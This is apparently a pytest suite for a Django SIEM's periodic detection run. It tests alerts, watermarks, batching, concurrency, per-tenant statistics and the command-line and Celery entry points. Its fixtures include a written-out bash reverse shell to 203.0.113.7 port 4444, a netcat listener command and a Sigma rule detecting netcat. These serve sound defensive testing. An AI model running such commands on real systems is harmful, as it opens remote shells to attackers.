"""The periodic detection run: the alerts it raises, the watermark that makes
it read each record once per rule, its statistics, and tenancy."""

import threading
from datetime import timedelta
from io import StringIO
from unittest import mock

import pytest
from django.conf import settings
from django.core.management import CommandError, call_command
from django.db import connection
from django.utils import timezone

from alerts import detection_run
from alerts.detection_models import DetectionCursor, DetectionRule, DetectionRuleStats
from alerts.detection_rules import (
    DetectionRuleSpec,
    save_custom_rule,
    set_rule_enabled,
    sync_predefined_rules,
)
from alerts.detection_run import run_detection
from alerts.models import Alert, AlertSource, LogRecord
from alerts.services import ingest_logs
from alerts.sigma.alerting import detection_uuid
from alerts.tasks import run_detection as run_detection_task
from secops.enums import RegionGroup, RiskLevel
from tests import factories
from tests.conftest import organisation_scope

pytestmark = pytest.mark.usefixtures("fast_password_hashing")

NETCAT_RULE = """\
title: Netcat listener
logsource:
  product: linux
  category: process_creation
detection:
  selection:
    Image|endswith: '/nc'
    CommandLine|contains: ' -l'
  condition: selection
level: medium
alert_type: suspicious_process
"""

REVERSE_SHELL = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"


def process_log(account, cmdline=REVERSE_SHELL, *, host="host-web-01", path="/bin/bash", **fields):
    return {
        "type": "process",
        "account": account.uid,
        "host_uuid": host,
        "time": timezone.now().isoformat(),
        "pid": 4242,
        "ppid": 4000,
        "path": path,
        "cmdline": cmdline,
        "user": "admin",
        "parent_path": "/usr/sbin/sshd",
        "parent_cmdline": "sshd: admin@pts/0",
        "hash": "d41d8cd98f00b204e9800998ecf8427e",
        **fields,
    }


def ingest(organisation, logs):
    result = ingest_logs(logs, scope=organisation_scope(organisation))
    assert not result.errors, result.errors
    return result.stored_ids


def run(**options):
    options.setdefault("now", timezone.now())
    options.setdefault("lag", timedelta(0))
    report = run_detection(**options)
    assert not report.errors, report.errors
    return report


def siem_alerts(**filters):
    return Alert.objects.filter(source=AlertSource.SIEM, **filters)


@pytest.fixture
def predefined(db):
    sync_predefined_rules()


# --- the alerts -----------------------------------------------------------------------


def test_it_raises_an_alert_with_the_records_entities_and_asset(tenancy, predefined):
    asset = factories.make_asset(
        tenancy.account_a,
        uuid="host-web-01",
        name="web-01",
        cloud_region="ap-southeast-1",
        region=RegionGroup.OUTSIDE_CHINA,
    )
    (record_id,) = ingest(tenancy.org, [process_log(tenancy.account_a)])

    run()

    alert = siem_alerts(name="Reverse shell command line").get()
    record = LogRecord.objects.get(id=record_id)
    assert (alert.type, alert.level, alert.account, alert.asset) == (
        "reverse_shell",
        RiskLevel.HIGH,
        tenancy.account_a,
        asset,
    )
    assert alert.region == RegionGroup.OUTSIDE_CHINA
    assert alert.occurred_at == record.time
    assert (alert.tactic, alert.technique) == ("Execution", "T1059.004")
    assert alert.raw["records"] == [
        {
            "ref": record.digest[:16],
            "log_type": "process",
            "host_uuid": "host-web-01",
            "time": record.time.isoformat(),
            "fields": record.fields,
        }
    ]
    assert alert.raw["rule"]["key"] == "reverse-shell-command"
    entities = {(e.type, e.value) for e in alert.entities.all()}
    assert ("process", REVERSE_SHELL) in entities
    assert ("process", "sshd: admin@pts/0") in entities  # the parent
    assert ("user", "admin") in entities
    assert ("file", "d41d8cd98f00b204e9800998ecf8427e") in entities
    asset.refresh_from_db()
    assert (asset.name, asset.cloud_region) == ("web-01", "ap-southeast-1")


def test_it_names_remote_addresses_as_the_attacker(tenancy, predefined):
    ingest(
        tenancy.org,
        [
            {
                "type": "network",
                "account": tenancy.account_a.uid,
                "host_uuid": "host-web-01",
                "time": timezone.now().isoformat(),
                "process_path": "/bin/bash",
                "src_ip": "10.0.0.10",
                "dst_ip": "203.0.113.7",
                "dst_port": 4444,
                "direction": "out",
            }
        ],
    )

    run()

    alert = siem_alerts(name="Shell process with a network connection").get()
    links = {(link.entity.value, link.role) for link in alert.entity_links.select_related("entity")}
    assert ("203.0.113.7", "attacker") in links
    assert ("10.0.0.10", "victim") in links
    assert ("/bin/bash", "related") in links


def test_it_sends_alerts_through_the_pipeline_into_events(
    tenancy, predefined, django_capture_on_commit_callbacks
):
    ingest(tenancy.org, [process_log(tenancy.account_a)])

    with django_capture_on_commit_callbacks(execute=True):
        run()

    alert = siem_alerts(name="Reverse shell command line").get()
    assert alert.events.filter(rule__key="siem-detection-on-host").exists()


def test_it_uses_uuids_made_of_the_rule_and_the_record(tenancy, predefined):
    (record_id,) = ingest(tenancy.org, [process_log(tenancy.account_a)])

    run()

    rule = DetectionRule.objects.get(key="reverse-shell-command")
    alert = siem_alerts(name="Reverse shell command line").get()
    record = LogRecord.objects.get(id=record_id)
    assert alert.source_uuid == detection_uuid(rule.id, rule.sigma_id, record.digest)
    # Opaque: the record's row id, a sequence shared by every tenant, is not in it.
    assert alert.source_uuid.startswith("siem-") and len(alert.source_uuid) == 45


# --- the watermark ----------------------------------------------------------------------


def test_it_examines_each_record_once(tenancy, predefined):
    ingest(tenancy.org, [process_log(tenancy.account_a)])

    first = run()
    second = run(now=timezone.now() + timedelta(seconds=5))

    assert (first.records, second.records) == (1, 0)
    assert siem_alerts(name="Reverse shell command line").count() == 1
    stats = DetectionRuleStats.objects.get(
        rule__key="reverse-shell-command", account=tenancy.account_a
    )
    assert (stats.last_run_records, stats.last_run_hits, stats.total_hits) == (0, 0, 1)


def test_it_reads_a_backlog_in_batches_and_adds_them_up(tenancy, predefined):
    ingest(
        tenancy.org,
        [process_log(tenancy.account_a, f"{REVERSE_SHELL} # {n}") for n in range(7)],
    )

    report = run(batch_size=3, organisation_ids=[tenancy.org.id])

    assert (report.batches, report.records) == (3, 7)
    assert siem_alerts(name="Reverse shell command line").count() == 7
    stats = DetectionRuleStats.objects.get(
        rule__key="reverse-shell-command", account=tenancy.account_a
    )
    assert (stats.last_run_records, stats.last_run_hits, stats.total_hits) == (7, 7, 7)


def test_it_leaves_records_received_within_the_lag_for_the_next_run(tenancy, predefined):
    ingest(tenancy.org, [process_log(tenancy.account_a)])
    now = timezone.now()

    early = run(now=now, lag=timedelta(seconds=30))
    later = run(now=now + timedelta(seconds=31), lag=timedelta(seconds=30))

    assert (early.records, later.records) == (0, 1)
    assert siem_alerts().count() == 1


def test_it_reads_a_record_that_committed_after_a_larger_id_was_read(tenancy, predefined):
    """A record whose transaction was still open when a run read past its id."""
    now = timezone.now()
    lag = timedelta(seconds=30)
    account = tenancy.account_a
    committed = factories.make_log_record(
        account, id=10_000, fields={"path": "/bin/bash", "cmdline": REVERSE_SHELL}
    )
    LogRecord.objects.filter(id=committed.id).update(received_at=now - timedelta(seconds=40))

    first = run(now=now, lag=lag)
    # Stamped 10 s before the first run, committed just after it, with a smaller id.
    late = factories.make_log_record(
        account, id=9_999, fields={"path": "/bin/bash", "cmdline": f"{REVERSE_SHELL} #late"}
    )
    LogRecord.objects.filter(id=late.id).update(received_at=now - timedelta(seconds=10))
    second = run(now=now + timedelta(seconds=60), lag=lag)

    assert (first.records, second.records) == (1, 1)
    assert siem_alerts(name="Reverse shell command line").count() == 2
    cursor = DetectionCursor.objects.get(organisation=tenancy.org)
    assert cursor.sweep_until is None
    assert cursor.examined_before == now + timedelta(seconds=30)


def test_it_moves_the_low_id_only_past_records_that_cannot_be_pending(tenancy, predefined):
    now = timezone.now()
    old = factories.make_log_record(tenancy.account_a, fields={"cmdline": "ls"})
    recent = factories.make_log_record(tenancy.account_a, fields={"cmdline": "ls -l"})
    LogRecord.objects.filter(id=old.id).update(received_at=now - timedelta(minutes=5))
    LogRecord.objects.filter(id=recent.id).update(received_at=now - timedelta(seconds=45))

    run(now=now, lag=timedelta(seconds=30))

    cursor = DetectionCursor.objects.get(organisation=tenancy.org)
    # received before now - 2 x lag: nothing with a smaller id can still commit
    assert cursor.low_id == old.id


def test_it_rolls_a_batch_back_whole_when_the_run_dies(tenancy, predefined):
    ingest(tenancy.org, [process_log(tenancy.account_a)])

    with (
        mock.patch.object(detection_run, "_save_stats", side_effect=RuntimeError("worker killed")),
        pytest.raises(RuntimeError),
    ):
        run()

    assert not siem_alerts().exists()
    assert (
        not DetectionCursor.objects.filter(organisation=tenancy.org)
        .exclude(sweep_until=None)
        .exists()
    )
    run()
    assert siem_alerts(name="Reverse shell command line").count() == 1


def test_it_keeps_running_the_other_rules_when_one_fails(tenancy, predefined):
    ingest(tenancy.org, [process_log(tenancy.account_a)])
    broken = DetectionRule.objects.get(key="web-server-spawns-shell")
    real_find = detection_run.find

    def find(rule_key, *args, **kwargs):
        if rule_key == broken.id:
            raise ValueError("bad state")
        return real_find(rule_key, *args, **kwargs)

    with mock.patch.object(detection_run, "find", side_effect=find):
        report = run_detection(lag=timedelta(0))

    assert siem_alerts(name="Reverse shell command line").count() == 1
    stats = DetectionRuleStats.objects.get(rule=broken, account=tenancy.account_a)
    assert stats.last_run_errors == 1
    assert "ValueError: bad state" in stats.last_error
    assert report.alerts == 1


def test_it_reports_a_stored_rule_that_no_longer_compiles(tenancy):
    rule = save_custom_rule(tenancy.org, DetectionRuleSpec(NETCAT_RULE))
    DetectionRule.objects.filter(id=rule.id).update(yaml=NETCAT_RULE.replace("/nc'", "/nc"))

    report = run_detection(now=timezone.now(), lag=timedelta(0))

    stats = DetectionRuleStats.objects.get(rule=rule, account=tenancy.account_a)
    assert stats.last_run_errors == 1 and "YAML syntax" in stats.last_error
    assert any("YAML syntax" in error for error in report.errors)


# --- concurrent runs (PostgreSQL) --------------------------------------------------------

postgres_only = [
    pytest.mark.postgres,
    pytest.mark.skipif(connection.vendor != "postgresql", reason="needs concurrent writers"),
    pytest.mark.django_db(transaction=True),
]


def in_threads(calls):
    barrier = threading.Barrier(len(calls))
    results, failures = [None] * len(calls), []

    def worker(position, call):
        try:
            barrier.wait(timeout=10)
            results[position] = call()
        except Exception as exc:
            failures.append(exc)
        finally:
            connection.close()

    threads = [threading.Thread(target=worker, args=item) for item in enumerate(calls)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert not failures, failures
    return results


@pytest.mark.parametrize("_", [pytest.param(None, marks=postgres_only)])
def test_it_examines_each_record_once_when_runs_overlap(tenancy, _):
    sync_predefined_rules()
    ingest(
        tenancy.org,
        [process_log(tenancy.account_a, f"{REVERSE_SHELL} # {n}") for n in range(40)],
    )
    now = timezone.now()

    reports = in_threads(
        [lambda: run_detection(now=now, lag=timedelta(0), batch_size=4) for _ in range(4)]
    )

    assert sum(r.records for r in reports) == 40
    assert siem_alerts(name="Reverse shell command line").count() == 40
    assert (
        DetectionRuleStats.objects.get(
            rule__key="reverse-shell-command", account=tenancy.account_a
        ).total_hits
        == 40
    )


@pytest.mark.parametrize("_", [pytest.param(None, marks=postgres_only)])
def test_it_skips_an_organisation_whose_watermark_another_run_holds(tenancy, _):
    sync_predefined_rules()
    ingest(tenancy.org, [process_log(tenancy.account_a)])
    now = timezone.now()
    run_detection(now=now - timedelta(days=2), lag=timedelta(0))  # creates the watermark
    holding, release = threading.Event(), threading.Event()

    def hold():
        from django.db import transaction

        with transaction.atomic():
            DetectionCursor.objects.select_for_update().get(organisation=tenancy.org)
            holding.set()
            release.wait(timeout=20)

    holder = threading.Thread(target=lambda: (hold(), connection.close()))
    holder.start()
    try:
        assert holding.wait(timeout=10)
        busy = run_detection(now=now, lag=timedelta(0), organisation_ids=[tenancy.org.id])
    finally:
        release.set()
        holder.join(timeout=20)
    after = run_detection(now=now, lag=timedelta(0), organisation_ids=[tenancy.org.id])

    assert (busy.busy, busy.records) == (1, 0)
    assert after.records == 1
    assert siem_alerts().count() == 1


# --- tenancy ----------------------------------------------------------------------------


def test_it_runs_a_custom_rule_over_its_own_organisations_logs_only(tenancy):
    save_custom_rule(tenancy.org, DetectionRuleSpec(NETCAT_RULE))
    ingest(tenancy.org, [process_log(tenancy.account_b, "nc -lvp 9001", path="/usr/bin/nc")])
    ingest(tenancy.other_org, [process_log(tenancy.account_x, "nc -lvp 9001", path="/usr/bin/nc")])

    run()

    alert = siem_alerts(name="Netcat listener").get()
    assert alert.account == tenancy.account_b
    assert alert.region == RegionGroup.OUTSIDE_CHINA  # the account's home region
    assert not DetectionRuleStats.objects.filter(
        rule__organisation=tenancy.org, account=tenancy.account_x
    ).exists()


def test_it_runs_a_predefined_rule_only_where_it_is_enabled(tenancy, predefined):
    rule = DetectionRule.objects.get(key="reverse-shell-command")
    set_rule_enabled(rule, False, tenancy.org)
    ingest(tenancy.org, [process_log(tenancy.account_a)])
    ingest(tenancy.other_org, [process_log(tenancy.account_x)])

    run()

    assert list(siem_alerts(name=rule.title).values_list("account", flat=True)) == [
        tenancy.account_x.id
    ]


def test_it_keeps_statistics_per_account(tenancy, predefined):
    ingest(
        tenancy.org,
        [process_log(tenancy.account_a), process_log(tenancy.account_b, host="host-b")],
    )

    run()

    stats = DetectionRuleStats.objects.filter(rule__key="reverse-shell-command")
    assert {(s.account_id, s.last_run_records, s.last_run_hits) for s in stats} >= {
        (tenancy.account_a.id, 1, 1),
        (tenancy.account_b.id, 1, 1),
    }
    assert (
        DetectionRuleStats.objects.in_scope(organisation_scope(tenancy.other_org)).count()
        == DetectionRule.objects.enabled_for(tenancy.other_org.id).count()
    )


# --- entry points -----------------------------------------------------------------------


def test_it_runs_from_the_command_line(tenancy, predefined):
    ingest(tenancy.org, [process_log(tenancy.account_a)])
    out = StringIO()

    call_command("run_detection", "--lag", "0", "--organisation", "Acme", stdout=out)

    assert "Read 1 log records of 1 organisation(s)" in out.getvalue()
    assert "1 alert(s) raised" in out.getvalue()
    with pytest.raises(CommandError, match="No organisation named 'Nowhere'"):
        call_command("run_detection", "--organisation", "Nowhere")


def test_it_runs_every_minute_as_a_celery_task(tenancy, predefined):
    ingest(tenancy.org, [process_log(tenancy.account_a)])
    LogRecord.objects.update(received_at=timezone.now() - timedelta(minutes=1))

    result = run_detection_task.apply().get()

    assert result["records"] == 1 and result["alerts"] == 1
    schedule = [
        entry
        for entry in settings.CELERY_BEAT_SCHEDULE.values()
        if entry["task"] == "alerts.run_detection"
    ]
    assert schedule == [{"task": "alerts.run_detection", "schedule": 60.0}]
